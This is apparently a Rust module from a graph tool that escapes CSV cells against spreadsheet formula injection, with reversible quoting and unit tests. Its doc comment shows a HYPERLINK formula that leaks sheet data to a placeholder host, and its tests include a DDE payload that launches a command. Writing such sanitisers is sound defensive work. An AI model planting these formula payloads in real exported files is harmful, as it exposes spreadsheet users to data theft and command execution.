//! Cells of the CSV files aligngraph writes, made safe for spreadsheets ("CSV injection").
//!
//! A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or `@` as a formula, and some
//! also one that starts with a tab or a carriage return; a node named
//! `=HYPERLINK("http://host/?leak="&A1,"x")` would then send the sheet's data away when opened.
//! Every writer of CSV text ([`crate::formats::plain_csv`], [`crate::formats::scores_csv`])
//! passes its cells through [`neutralise`], which puts a single quote `'` in front of such a
//! cell, as OWASP recommends. A cell that is a number (`-5`, `+1e3`, `-0.25`) is written as
//! it is, so numbers stay numbers.
//!
//! The mapping is reversible: a cell that already starts with `'` followed by a trigger or by
//! another `'` gets one more `'`, and the CSV readers pass every cell they read through
//! [`restore`], which removes that one quote. So an exported model imports back to the same
//! model. The page's twin of these rules is `www/lib/csv-cell.js`; both are checked against the
//! cases of `tests/fixtures/hostile/csv/injection-cases.json`.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection").
pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// True when `c` starts a formula in a spreadsheet.
pub fn is_trigger(c: char) -> bool {
    TRIGGERS.contains(&c)
}

/// True when `s` is a plain decimal number: an optional sign, digits with an optional
/// fraction (or a fraction alone), an optional exponent (`-5`, `+1e3`, `.5`, `2.`, `-1.5E-7`).
/// `inf`, `NaN`, hexadecimal and text with spaces are not numbers here.
pub fn is_number(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    if matches!(b.first(), Some(b'+' | b'-')) {
        i += 1;
    }
    let digits = |i: &mut usize| {
        let start = *i;
        while *i < b.len() && b[*i].is_ascii_digit() {
            *i += 1;
        }
        *i - start
    };
    let mut mantissa = digits(&mut i);
    if b.get(i) == Some(&b'.') {
        i += 1;
        mantissa += digits(&mut i);
    }
    if mantissa == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

/// True when [`neutralise`] puts a quote in front of `cell`.
fn needs_quote(cell: &str) -> bool {
    let mut chars = cell.chars();
    match chars.next() {
        Some('\'') => chars.next().is_some_and(|c| c == '\'' || is_trigger(c)),
        Some(c) if is_trigger(c) => !is_number(cell),
        _ => false,
    }
}

/// The cell as written to a CSV file: `'` in front when it starts with `=`, `+`, `-`, `@`, a
/// tab or a carriage return and is not a number, or when it starts with `'` followed by one of
/// those or by another `'` (so that [`restore`] gives the text back). Anything else is
/// unchanged (and borrowed).
///
/// ```
/// use aligngraph::formats::csv_cell::neutralise;
/// assert_eq!(neutralise("=1+2"), "'=1+2");
/// assert_eq!(neutralise("-5"), "-5");
/// assert_eq!(neutralise("Grow revenue"), "Grow revenue");
/// ```
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_quote(cell) {
        let mut s = String::with_capacity(cell.len() + 1);
        s.push('\'');
        s.push_str(cell);
        Cow::Owned(s)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The text of a cell read from a CSV file: the inverse of [`neutralise`] (one leading `'` is
/// removed when a trigger or another `'` follows it). The result is always a part of `cell`,
/// so it is returned as a slice and the readers keep borrowing their records.
///
/// ```
/// use aligngraph::formats::csv_cell::{neutralise, restore};
/// assert_eq!(restore("'=1+2"), "=1+2");
/// assert_eq!(restore(&neutralise("''x")), "''x");
/// assert_eq!(restore("'5"), "'5");
/// ```
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(|c: char| c == '\'' || is_trigger(c)) => rest,
        _ => cell,
    }
}

/// Writes one record with every cell passed through [`neutralise`].
pub fn write_record<W: std::io::Write, S: AsRef<str>>(
    w: &mut csv::Writer<W>,
    cells: impl IntoIterator<Item = S>,
) -> csv::Result<()> {
    let cells: Vec<S> = cells.into_iter().collect();
    let safe: Vec<Cow<'_, str>> = cells.iter().map(|c| neutralise(c.as_ref())).collect();
    w.write_record(safe.iter().map(|c| c.as_bytes()))
}

/// A record read from a CSV file with every cell passed through [`restore`] (its position
/// kept); the record itself when no cell starts with `'`.
pub fn restore_record(record: csv::StringRecord) -> csv::StringRecord {
    if !record.iter().any(|c| c.starts_with('\'')) {
        return record;
    }
    let mut out: csv::StringRecord = record.iter().map(restore).collect();
    out.set_position(record.position().cloned());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_and_formulas() {
        for n in ["-5", "+1e3", "-0.25", ".5", "2.", "-1.5E-7", "0"] {
            assert!(is_number(n), "{n}");
            assert_eq!(neutralise(n), n);
        }
        for t in [
            "-", "+", "-e5", "-inf", "-NaN", "1e", "--5", "-5 ", "- 5", "-.", "0x1",
        ] {
            assert!(!is_number(t), "{t}");
        }
        for (cell, written) in [
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-x", "'-x"),
            ("'=x", "''=x"),
            ("''", "'''"),
            ("'", "'"),
            ("'a", "'a"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
            assert_eq!(restore(written), cell, "{written:?}");
        }
    }
}
